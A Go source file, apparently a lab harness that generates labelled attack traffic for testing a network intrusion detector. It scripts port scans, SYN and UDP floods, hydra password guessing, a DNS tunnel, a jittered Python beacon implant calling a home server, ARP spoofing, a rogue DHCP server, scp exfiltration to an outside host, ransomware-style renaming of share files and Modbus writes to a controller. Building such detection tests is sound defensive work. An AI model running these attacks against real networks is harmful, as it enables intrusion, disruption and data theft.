//go:build linux

package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"time"
)

// tool is an attack that is played. What play does until it calls attack is no part of it.
type tool struct {
	name, what string
	play       func(n *network) error
	alone      bool // one at a time at a lane: what it says goes to everybody there
}

var tools = []tool{
	{name: "nmap", what: "scans of TCP ports, of UDP ports and of hosts", play: nmap},
	{name: "hping3", what: "scans, floods of SYN and of UDP", play: hping},
	{name: "hydra", what: "guesses passwords of sshd and vsftpd", play: hydra},
	{name: "iodine", what: "a network in DNS", play: iodine},
	{name: "beacon", what: "calls home over TCP, HTTP and TLS, with jitter", play: beacon},
	{name: "dns-beacon", what: "calls home by questions for names, with jitter", play: dnsBeacon},
	{name: "dnsmasq", what: "a second DHCP server", play: rogueDHCP, alone: true},
	{name: "arpspoof", what: "another's address on one's own card", play: arpspoof},
	{name: "scp", what: "files that leave", play: scp},
	{name: "smbclient", what: "files of a share that are rewritten and renamed", play: ransom},
	{name: "modbus", what: "writes into a controller", play: modbus},
}

func find(name string) *tool {
	if i := slices.IndexFunc(tools, func(t tool) bool { return t.name == name }); i >= 0 {
		return &tools[i]
	}
	return nil
}

func allTools() (names []string) {
	for _, t := range tools {
		names = append(names, t.name)
	}
	return names
}

// --- scans and floods ---

func nmap(n *network) error {
	n.find = []string{"portscan"}
	if n.IntN(2) == 0 {
		if err := n.web("server"); err != nil {
			return err
		}
	}
	server, speed := n.addr("server"), n.one("-T3", "-T4", "-T5")
	within, args := 10*time.Second, ""
	switch n.IntN(7) {
	case 0:
		args = fmt.Sprintf("-sS -p 1-%d %s %s", n.between(100, 2000), speed, server)
	case 1:
		args = fmt.Sprintf("-sT -F %s %s", speed, server)
	case 2:
		args = fmt.Sprintf("%s -F %s %s", n.one("-sX", "-sF", "-sN"), speed, server)
	case 3:
		args = fmt.Sprintf("-sS -F --max-rate %d %s", n.between(20, 200), server)
	case 4:
		delay := n.between(50, 400)
		args = fmt.Sprintf("-Pn -sS --top-ports 80 --max-retries 1 --scan-delay %dms %s", delay, server)
		within += time.Duration(40*delay) * time.Millisecond
	case 5: // nobody answers, so that it takes longer until a port counts
		args = fmt.Sprintf("-Pn -sS -p %s %s %s/26", n.one("22", "23", "445", "3389"), n.one("-T4", "-T5"), n.outside)
		within = 25 * time.Second
	case 6:
		args = fmt.Sprintf("-Pn -sU --top-ports %d --min-rate %d --max-retries 1 %s", n.between(80, 200), n.between(20, 100), server)
		within = 25 * time.Second
	}
	n.note("nmap %s", args)
	n.attack(within)
	return n.on("attacker", 60*time.Second, "nmap -n %s", args)
}

func hping(n *network) error {
	if err := n.web("server"); err != nil {
		return err
	}
	within, args := 25*time.Second, "" // ten until a flow counts of which nothing comes, ten in which they are counted
	switch n.IntN(4) {
	case 0:
		n.find, within = []string{"portscan"}, 10*time.Second
		args = fmt.Sprintf("--scan 1-%d -S", n.between(200, 1000))
	case 1:
		n.find = []string{"flood"}
		args = fmt.Sprintf("-q -S -p 80 -i u%d -c %d", n.between(500, 4000), n.between(1500, 4000))
	case 2:
		n.find = []string{"flood"}
		args = fmt.Sprintf("-q -S -p 80 --rand-source -i u%d -c %d", n.between(500, 4000), n.between(1500, 4000))
	case 3:
		n.find = []string{"flood"}
		args = fmt.Sprintf("-q -2 -p %d -d %d -i u%d -c 12000", n.between(1000, 60000), n.between(10, 400), n.between(300, 500))
	}
	n.note("hping3 %s", args)
	n.attack(within)
	return n.on("attacker", 20*time.Second, "hping3 %s %s", args, n.addr("server"))
}

// --- passwords ---

func hydra(n *network) error {
	n.find = []string{"bruteforce"}
	service := n.one("ssh", "ftp")
	if err := map[string]func(string) error{"ssh": n.ssh, "ftp": n.ftp}[service]("server"); err != nil {
		return err
	}
	who := "-l " + n.one("root", "backup", "admin", "deploy")
	if n.IntN(4) == 0 {
		who = "-L " + n.words(n.between(10, 40))
	}
	tasks, count := n.between(1, 6), n.between(30, 100)
	n.note("%s, %d at a time, %s", service, tasks, who[:2])
	within := 30 * time.Second
	if tasks < 3 { // a server takes seconds to refuse a password, and of a connection of SSH three refusals count
		within = 120 * time.Second / time.Duration(tasks)
	}
	n.attack(within)
	return n.on("attacker", within, "hydra -I %s -P %s -t %d %s://%s", who, n.words(count), tasks, service, n.addr("server"))
}

// --- calling home ---

func iodine(n *network) error {
	n.find = []string{"tunnel"}
	kind, size, ask := n.one("NULL", "PRIVATE", "TXT", "CNAME", "MX", "SRV"), n.between(120, 255), n.outside.String()
	n.note("type %s, names of %d", kind, size)
	if _, err := n.leave("gateway", "iodined -l %s -f -c -P secret -d dns1 10.99.0.1/24 tunnel.example.com", n.outside); err != nil {
		return err
	}
	if n.IntN(2) == 0 {
		n.note("through a resolver")
		ask = n.addr("gateway")
		if err := n.dns(); err != nil {
			return err
		}
	}
	time.Sleep(time.Second)
	n.attack(30 * time.Second)
	if _, err := n.leave("client", "iodine -f -r -P secret -d dns0 -M %d -T%s %s tunnel.example.com", size, kind, ask); err != nil {
		return err
	}
	return n.on("client", 25*time.Second, "for i in $(seq 60); do ip link show dns0 up 2>/dev/null | grep -q UP && break; sleep 0.2; done; ping -c %d -i %.1f -s %d 10.99.0.1",
		n.between(10, 30), 0.2+n.Float64()/2, n.between(56, 600))
}

func beacon(n *network) error { return n.callHome(n.one("tcp", "http", "tls")) }

func dnsBeacon(n *network) error { return n.callHome("dns") }

func (n *network) callHome(kind string) error {
	n.find = []string{"beacon"}
	period := 1.5 + 3*n.Float64()
	jitter := []float64{0, 0.02, 0.1, 0.2, 0.3}[n.IntN(5)]
	port := map[string]int{"tcp": n.between(1024, 60000), "http": 80, "tls": 443, "dns": 53}[kind]
	n.note("%s, each %.1f s, jitter %g %%", kind, period, 100*jitter)
	if err := n.sh("", fmt.Sprintf("openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj /CN=www.example.net -keyout %[1]s/key.pem -out %[1]s/cert.pem 2>/dev/null", n.dir)); err != nil {
		return err
	}
	n.file("home.py", home)
	n.file("implant.py", implant)
	if err := n.serve("gateway", port, "/usr/bin/python3 home.py %s %s %d", kind, n.outside, port); err != nil {
		return err
	}
	calls := 10 + int(60*jitter)
	n.attack(time.Duration(float64(calls)*period*float64(time.Second)) + 15*time.Second)
	return n.on("client", time.Minute*3, "/usr/bin/python3 implant.py %s %s %d %.2f %g %d", kind, n.outside, port, period, jitter, calls)
}

const home = `import socket, ssl, sys, threading
kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
if kind == "dns":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((address, port))
    while True:
        q, who = s.recvfrom(600)
        s.sendto(q[:2] + b"\x84\x00\x00\x01\x00\x01\x00\x00\x00\x00" + q[12:] + b"\xc0\x0c\x00\x10\x00\x01\x00\x00\x00\x00\x00\x05\x04idle", who)
s = socket.create_server((address, port))
def serve(c):
    try:
        if kind == "tls":
            x = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); x.load_cert_chain("cert.pem", "key.pem"); c = x.wrap_socket(c, server_side=True)
        c.recv(4000)
        c.sendall(b"nothing" if kind == "tcp" else b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\nidle")
        c.close()
    except OSError: pass
while True: threading.Thread(target=serve, args=(s.accept()[0],)).start()
`

const implant = `import random, socket, ssl, sys, time
kind, address, port, period, jitter, calls = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6])
name = "%06x" % random.getrandbits(24)
for n in range(calls):
    try:
        if kind == "dns":
            q = b"".join(bytes([len(l)]) + l.encode() for l in (name, "t%d" % n, "example", "com")) + b"\0\0\x10\0\1"
            c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); c.settimeout(1)
            c.sendto(random.randbytes(2) + b"\1\0\0\1\0\0\0\0\0\0" + q, (address, port)); c.recv(600)
        else:
            c = socket.create_connection((address, port), 3)
            if kind == "tls":
                x = ssl.create_default_context(); x.check_hostname = False; x.verify_mode = ssl.CERT_NONE; c = x.wrap_socket(c)
            c.sendall(b"hello from " + name.encode() if kind == "tcp" else b"GET /task?id=" + name.encode() + b" HTTP/1.1\r\nHost: " + address.encode() + b"\r\nConnection: close\r\n\r\n")
            while c.recv(4000): pass
        c.close()
    except OSError: pass
    time.sleep(period * random.uniform(1 - jitter, 1 + jitter))
`

// --- the local network ---

func arpspoof(n *network) error {
	n.find, n.quick = []string{"spoof"}, true
	if err := n.sh(n.host("attacker"), "sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.eth0.send_redirects=0"); err != nil {
		return err
	}
	if err := n.on("client", 10*time.Second, "ping -c %d -i 0.3 %s", n.between(1, 3), n.addr("gateway")); err != nil {
		return err
	}
	victim := n.one("client", "desk")
	n.attack(10 * time.Second) // it speaks every two seconds, and a frame may be lost
	if _, err := n.leave("attacker", "exec arpspoof -i eth0 -t %s %s", n.addr(victim), n.addr("gateway")); err != nil {
		return err
	}
	n.note("one way")
	if n.IntN(2) == 0 {
		n.what[len(n.what)-1] = "both ways"
		if _, err := n.leave("attacker", "exec arpspoof -i eth0 -t %s %s", n.addr("gateway"), n.addr(victim)); err != nil {
			return err
		}
	}
	return n.on(victim, 30*time.Second, "ping -c %d -i %.1f %s", n.between(5, 15), 0.2+n.Float64(), n.outside)
}

func rogueDHCP(n *network) error {
	n.find, n.quick = []string{"spoof"}, true
	serve := func(host, low, high string) error {
		_, err := n.leave(host, "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --user=root --no-resolv --no-hosts --bind-interfaces --interface=eth0 --port=0 --no-ping "+
			"--dhcp-range=%[1]s.%[2]s,%[1]s.%[3]s,255.255.255.0,10m --dhcp-authoritative --dhcp-leasefile=%[4]s/%[5]s.leases --dhcp-option=3,%[6]s --dhcp-option=6,%[6]s",
			strings.TrimSuffix(n.addr("gateway"), ".1"), low, high, n.dir, host, n.addr(host))
		return err
	}
	card := 0
	ask := func(times int) error {
		for range times {
			card++
			err := n.on("client", 12*time.Second, "ip link set eth0 down; ip link set eth0 address 02:%02x:%02x:01:00:%02x; ip link set eth0 up; udhcpc -f -q -n -t 3 -T 1 -s /bin/true -i eth0",
				byte(n.number>>8), byte(n.number), card)
			if err != nil {
				return err
			}
			time.Sleep(time.Duration(n.between(100, 1500)) * time.Millisecond)
		}
		return nil
	}
	if err := serve("gateway", "100", "150"); err != nil {
		return err
	}
	time.Sleep(time.Second)
	if err := ask(n.between(2, 4)); err != nil {
		return err
	}
	if err := serve("attacker", "160", "190"); err != nil {
		return err
	}
	time.Sleep(time.Second)
	n.attack(10 * time.Second)
	return ask(n.between(3, 6))
}

// --- files ---

func scp(n *network) error {
	n.find = []string{"exfil"}
	if err := n.ssh("gateway"); err != nil {
		return err
	}
	megabytes, times, limit := n.between(30, 90), n.between(1, 2), ""
	if n.IntN(2) == 0 {
		limit = fmt.Sprintf("-l %d", n.between(30_000, 100_000)) // kbit/s
	}
	n.note("%d MiB, %d times %s", megabytes, times, limit)
	if err := n.sh("", fmt.Sprintf("head -c %dM /dev/urandom > %s/customers.tar", megabytes, n.dir)); err != nil {
		return err
	}
	n.attack(time.Hour)
	for i := range times {
		if err := n.on("client", 90*time.Second, "scp %s -i id -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null customers.tar root@%s:%s/stolen%d", limit, n.outside, n.dir, i); err != nil {
			return err
		}
		if i == 0 {
			n.due = time.Now().Add(10 * time.Second) // the first one is enough
		}
	}
	return nil
}

func ransom(n *network) error {
	n.find = []string{"ransomware"}
	share, files := filepath.Join(n.dir, "share"), n.between(60, 200)
	if err := os.Mkdir(share, 0o755); err != nil { //nolint:gosec // the server gives up its rights
		return err
	}
	var script strings.Builder
	ending := n.one("locked", "crypt", "enc7", "x3f9a", "lockbit")
	for i := range files {
		name := fmt.Sprintf("%s-%d.%s", n.one("report", "letter", "plan"), i, n.one("docx", "xlsx", "pdf", "jpg"))
		n.file("share/"+name, strings.Repeat("words and more words ", n.between(10, 400)))
		fmt.Fprintf(&script, "get %[1]s %[2]s/x\nput %[2]s/blob %[1]s\nrename %[1]s %[1]s.%[3]s\n", name, n.dir, ending)
	}
	if n.IntN(2) == 0 {
		fmt.Fprintf(&script, "put %s/blob HOW_TO_DECRYPT.txt\n", n.dir)
		n.note("with a note")
	}
	n.note("%d files become .%s", files, ending)
	n.file("blob", strings.Repeat("x!7", 800))
	n.file("smb.conf", fmt.Sprintf("[global]\nserver role = standalone\nmap to guest = Bad User\nguest account = root\nlog level = 0\nload printers = no\ndisable spoolss = yes\n"+
		"bind interfaces only = yes\ninterfaces = %[2]s/24\nprivate dir = %[1]s\nlock directory = %[1]s\nstate directory = %[1]s\ncache directory = %[1]s\npid directory = %[1]s\nncalrpc dir = %[1]s/rpc\n"+
		"[files]\npath = %[1]s/share\nguest ok = yes\nread only = no\nforce user = root\n", n.dir, n.addr("server")))
	if err := n.serve("server", 445, "exec smbd --foreground --no-process-group --debug-stdout --debuglevel=0 --log-basename=%[1]s --configfile=%[1]s/smb.conf", n.dir); err != nil {
		return err
	}
	n.file("commands", script.String())
	n.attack(20 * time.Second)
	return n.on("client", 60*time.Second, "smbclient -s %s/smb.conf -N //%s/files < commands", n.dir, n.addr("server"))
}

// --- controllers ---

func modbus(n *network) error {
	n.find, n.quick = []string{"ot"}, true
	every := 0.2 + n.Float64()/2
	n.file("plc.py", fmt.Sprintf(plc, n.addr("server")))
	n.file("master.py", fmt.Sprintf(master, n.addr("server"), every))
	if err := n.serve("server", 502, "exec /usr/bin/python3 plc.py"); err != nil {
		return err
	}
	if _, err := n.leave("desk", "exec /usr/bin/python3 master.py"); err != nil {
		return err
	}
	time.Sleep(time.Duration(n.between(10, 14)) * time.Second)
	act := n.one("c.write_register(10 + n % 4, 4000 + n, slave=1)", "c.write_coil(n % 8, True, slave=1)", "c.write_registers(20, [n] * 5, slave=1)", "c.write_coils(4, [True] * 6, slave=1)")
	pace := 0.1 + 1.5*n.Float64()
	n.note("%s, each %.1f s", act[2:strings.Index(act, "(")], pace)
	n.file("write.py", fmt.Sprintf("import time\nfrom pymodbus.client import ModbusTcpClient\nc = ModbusTcpClient(%q, port=502)\nc.connect()\nopen('began', 'w').close()\nfor n in range(%d):\n    %s\n    time.sleep(%g)\nc.close()\n",
		n.addr("server"), n.between(4, 12), act, pace))
	done := make(chan error, 1)
	go func() { done <- n.on("attacker", 30*time.Second, "/usr/bin/python3 write.py") }()
	for { // the program takes its time to begin
		if _, err := os.Stat(filepath.Join(n.dir, "began")); err == nil {
			break
		}
		select {
		case err := <-done:
			return err
		case <-time.After(20 * time.Millisecond):
		}
	}
	n.attack(5 * time.Second)
	return <-done
}

const plc = `from pymodbus.datastore import ModbusSequentialDataBlock, ModbusServerContext, ModbusSlaveContext
from pymodbus.server import StartTcpServer
block = lambda: ModbusSequentialDataBlock(0, [7] * 200)
StartTcpServer(context=ModbusServerContext(slaves=ModbusSlaveContext(di=block(), co=block(), hr=block(), ir=block()), single=True), address=("%s", 502))
`

const master = `import time
from pymodbus.client import ModbusTcpClient
c = ModbusTcpClient("%s", port=502)
c.connect()
while True:
    c.read_holding_registers(10, 8, slave=1); c.read_coils(0, 16, slave=1)
    time.sleep(%g)
`

// --- what is there to be attacked, and what goes on beside it ---

// dns lets the gateway resolve names.
func (n *network) dns() error {
	if n.resolves {
		return nil
	}
	n.resolves = true
	return n.serve("gateway", 53, "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --pid-file= --user=root --no-resolv --no-hosts --bind-interfaces --listen-address=%[1]s --cache-size=0 "+
		"--address=/example.net/%[2]s --local=/example.net/ --server=/tunnel.example.com/%[2]s", n.addr("gateway"), n.outside)
}

func (n *network) web(host string) error {
	address := n.addr(host)
	if host == "gateway" {
		address = n.outside.String()
	}
	if err := n.sh("", fmt.Sprintf("mkdir -p %[1]s/www; for i in 1 2 3 4; do head -c $((i * 3000)) /dev/zero | tr '\\0' w > %[1]s/www/page$i.html; done", n.dir)); err != nil {
		return err
	}
	conf := n.file("nginx-"+host, fmt.Sprintf(`daemon off; user root; worker_processes 1; pid %[1]s/nginx-%[3]s.pid; error_log %[1]s/nginx.log; events {}
http { access_log off; client_body_temp_path %[1]s/t0; proxy_temp_path %[1]s/t1; fastcgi_temp_path %[1]s/t2; uwsgi_temp_path %[1]s/t3; scgi_temp_path %[1]s/t4;
server { listen %[2]s:80; root %[1]s/www; } }`, n.dir, address, host))
	return n.serve(host, 80, "exec nginx -e %s/nginx.log -c %s", n.dir, conf)
}

func (n *network) ssh(host string) error {
	if err := n.sh("", fmt.Sprintf("mkdir -p /run/sshd; cd %s; ssh-keygen -q -t ed25519 -N '' -f hostkey; ssh-keygen -q -t ed25519 -N '' -f id; cp id.pub authorized", n.dir)); err != nil {
		return err
	}
	conf := n.file("sshd.conf", fmt.Sprintf("Port 22\nHostKey %[1]s/hostkey\nPidFile none\nStrictModes no\nUsePAM no\nPasswordAuthentication yes\nMaxStartups 50\nPermitRootLogin yes\n"+
		"AuthorizedKeysFile %[1]s/authorized\nSubsystem sftp internal-sftp\n", n.dir))
	return n.serve(host, 22, "exec /usr/sbin/sshd -D -e -f %s", conf)
}

func (n *network) ftp(host string) error {
	empty := filepath.Join(n.dir, "empty")
	if err := os.Mkdir(empty, 0o755); err != nil { //nolint:gosec // the server gives up its rights
		return err
	}
	conf := n.file("vsftpd.conf", fmt.Sprintf("listen=YES\nbackground=NO\nlocal_enable=YES\nanonymous_enable=NO\nsecure_chroot_dir=%s\nseccomp_sandbox=NO\nmax_login_fails=3\ndelay_failed_login=%d\n"+
		"listen_port=21\nrun_as_launching_user=YES\n", empty, n.IntN(2)))
	return n.serve(host, 21, "exec vsftpd %s", conf)
}

// ordinary lets somebody work beside the attack: pages, names, pings.
func (n *network) ordinary() error {
	if err := n.web("gateway"); err != nil {
		return err
	}
	if err := n.dns(); err != nil {
		return err
	}
	_, err := n.leave("desk", `while :; do
for i in $(seq $(shuf -i 1-4 -n 1)); do dig +tries=1 +time=1 @%[1]s $(shuf -e www img api mail cdn -n 1).example.net >/dev/null; curl -s -m 5 -o /dev/null http://%[2]s/page$i.html; done
ping -c 1 -W 1 %[1]s >/dev/null; sleep $(shuf -i 0-4 -n 1).$(shuf -i 1-9 -n 1); done`, n.addr("gateway"), n.outside)
	return err
}
